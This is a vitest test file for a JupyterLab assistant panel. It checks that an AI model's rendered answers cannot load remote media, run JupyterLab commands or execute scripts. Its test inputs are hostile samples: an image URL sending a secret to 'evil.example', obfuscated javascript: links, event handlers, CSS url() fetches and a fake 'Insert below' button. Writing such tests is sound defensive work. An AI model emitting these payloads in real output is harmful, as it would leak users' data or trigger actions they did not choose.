import { afterEach, describe, expect, it, vi } from 'vitest';

import { createAnswerRenderer, renderAnswer } from '../components/markdown-view';
import { jupyterRendermime } from './rendermime';

const EVIL = 'https://evil.example';
const noActions = { insertBelow: vi.fn(), replaceActiveCell: vi.fn() };
const rendermime = jupyterRendermime();

/** Renders a model's answer as the panel does and answers the rendered node. */
async function show(answer: string): Promise<HTMLElement> {
  const renderer = createAnswerRenderer(rendermime);
  document.body.append(renderer.node);
  await renderAnswer(renderer, rendermime, answer, noActions);
  return renderer.node;
}

afterEach(() => {
  document.body.innerHTML = '';
});

/** Everything in `node` that makes the browser fetch a remote URL without a click. */
function remoteLoads(node: HTMLElement): string[] {
  const found: string[] = [];
  node.querySelectorAll('*').forEach((el) => {
    for (const { name, value } of Array.from(el.attributes)) {
      const loads =
        (['src', 'srcset', 'poster', 'background', 'data', 'lowsrc', 'dynsrc'].includes(name) && value.includes('//')) ||
        (name === 'href' && el.localName !== 'a') ||
        (name === 'style' && /url\s*\(/i.test(value));
      if (loads) {
        found.push(`<${el.localName} ${name}="${value}">`);
      }
    }
  });
  return found;
}

describe('model output is rendered without trusting it', () => {
  it('shows a remote Markdown image as a link to it, never loading it', async () => {
    const node = await show(`Here is the chart: ![sales chart](${EVIL}/collect?d=SECRET)`);
    expect(node.querySelector('img')).toBeNull();
    const link = node.querySelector<HTMLAnchorElement>('a.jp-Mooring-blockedMedia')!;
    expect(link.textContent).toBe('Image: sales chart (evil.example)');
    expect(link.getAttribute('href')).toBe(`${EVIL}/collect?d=SECRET`);
    expect(link.target).toBe('_blank');
    expect(link.rel.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  });

  it('loads no remote image written as HTML, nor its srcset', async () => {
    const node = await show(`<img src="${EVIL}/a.png" srcset="${EVIL}/b.png 2x" alt="x"><img src="//evil.example/c.png">`);
    expect(node.querySelectorAll('img')).toHaveLength(0);
    expect(remoteLoads(node)).toEqual([]);
  });

  it('keeps an inline raster image, which loads nothing, and no other data: image', async () => {
    const node = await show('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">');
    expect(node.querySelector('img')?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    const others = await show('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg"><img src="data:text/html,<b>x</b>">');
    expect(others.querySelectorAll('img')).toHaveLength(0);
    expect(others.textContent).toContain('Image: svg');
  });

  it('plays no remote video or audio, shows no poster, loads no source', async () => {
    const node = await show(
      `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay></video>` +
        `<audio src="${EVIL}/a.mp3" autoplay></audio>` +
        `<video autoplay><source src="${EVIL}/s.mp4"><track src="${EVIL}/t.vtt"></video>`
    );
    expect(node.querySelectorAll('video, audio, source, track')).toHaveLength(0);
    expect(remoteLoads(node)).toEqual([]);
    // JupyterLab's sanitizer already drops a <source>'s src, so the last one has no link.
    expect(Array.from(node.querySelectorAll('.jp-Mooring-blockedMedia'), (a) => a.textContent)).toEqual([
      'Video: no description (evil.example)',
      'Audio: no description (evil.example)',
      'Video: no description'
    ]);
  });

  it('loads no image input', async () => {
    const node = await show(`<input type="image" src="${EVIL}/i.png">`);
    expect(node.querySelector('input')).toBeNull();
    expect(remoteLoads(node)).toEqual([]);
  });

  it('loads no CSS url(): backgrounds, list images, cursors', async () => {
    const node = await show(
      `<p style="background-image: url(${EVIL}/bg.png)">a</p>` +
        `<ul style="list-style-image: url('${EVIL}/li.png')"><li>b</li></ul>` +
        `<span style="cursor: url(${EVIL}/c.cur), auto">c</span>` +
        `<div style="background: url(${EVIL}/d.png) no-repeat">d</div>`
    );
    expect(remoteLoads(node)).toEqual([]);
    expect(node.textContent).toContain('a');
  });

  it('embeds no frame, object, plugin or stylesheet', async () => {
    const node = await show(
      `<iframe src="${EVIL}/f"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">` +
        `<link rel="stylesheet" href="${EVIL}/s.css"><svg><image href="${EVIL}/i.png"/></svg>`
    );
    expect(node.querySelectorAll('iframe, object, embed, link, svg')).toHaveLength(0);
    expect(remoteLoads(node)).toEqual([]);
  });

  it('offers no command-linker button: a look-alike "Insert below" runs no JupyterLab command', async () => {
    const node = await show(
      'Click to apply the fix:\n\n<button data-commandlinker-command="notebook:run-all-cells" ' +
        'data-commandlinker-args=\'{"x":1}\'>Insert below</button> <span data-command="console:create">x</span>'
    );
    expect(node.querySelector('button')).toBeNull();
    const commandAttributes = Array.from(node.querySelectorAll('*')).flatMap((el) =>
      el.getAttributeNames().filter((name) => name.startsWith('data-command'))
    );
    expect(commandAttributes).toEqual([]);
    expect(node.textContent).toContain('Insert below');
  });

  it('turns no form control into a live one', async () => {
    const node = await show('<form><select><option>a</option></select><textarea>t</textarea><input type="text"></form>');
    expect(node.querySelectorAll('form, select, option, textarea, input')).toHaveLength(0);
    const tasks = await show('- [x] done\n- [ ] todo');
    expect(Array.from(tasks.querySelectorAll('input'), (i) => i.type)).toEqual(['checkbox', 'checkbox']);
    expect(Array.from(tasks.querySelectorAll('input'), (i) => i.disabled)).toEqual([true, true]);
  });

  it('drops javascript: and data: link targets, however they are spelled', async () => {
    const node = await show(
      '[one](javascript:alert(1)) <a href="JaVaScRiPt:alert(2)">two</a> <a href="java&#x09;script:alert(3)">three</a> ' +
        '<a href="data:text/html,<script>alert(4)</script>">four</a> <a href=" javascript:alert(5)">five</a>'
    );
    const hrefs = Array.from(node.querySelectorAll('a'), (a) => a.getAttribute('href')).filter((h) => h !== null);
    expect(hrefs).toEqual([]);
    expect(node.textContent).toContain('five');
  });

  it('opens links in a new tab without the opener or the referrer', async () => {
    const node = await show(`[the docs](https://docs.python.org/3/) and <a href="${EVIL}/x" target="_self" rel="opener">y</a>`);
    const links = Array.from(node.querySelectorAll('a'));
    expect(links).toHaveLength(2);
    for (const a of links) {
      expect(a.target).toBe('_blank');
      expect(a.rel.split(' ').sort()).toEqual(['noopener', 'noreferrer']);
    }
  });

  it('hardens what the LaTeX typesetter adds too: its styles that fetch and its links', async () => {
    // MathJax's own filter lets \style{cursor: url(...)} and \href through.
    const mathjax = {
      typeset: (node: HTMLElement) => {
        node.insertAdjacentHTML(
          'beforeend',
          `<span class="MathJax" style="cursor: url(${EVIL}/c.cur), auto">x</span><a href="${EVIL}/m">m</a>`
        );
      }
    };
    const typesetting = jupyterRendermime(mathjax);
    const renderer = createAnswerRenderer(typesetting);
    await renderAnswer(renderer, typesetting, 'The area is $\\pi r^2$.', noActions);
    expect(remoteLoads(renderer.node)).toEqual([]);
    const link = renderer.node.querySelector<HTMLAnchorElement>(`a[href="${EVIL}/m"]`)!;
    expect(link.rel.split(' ').sort()).toEqual(['noopener', 'noreferrer']);
  });

  it('strips event handlers and keeps the answer text', async () => {
    const node = await show('<p onclick="alert(1)" onmouseover="alert(2)">**Mean** of a list</p>');
    expect(node.querySelector('[onclick], [onmouseover]')).toBeNull();
    expect(node.textContent).toContain('of a list');
  });
});
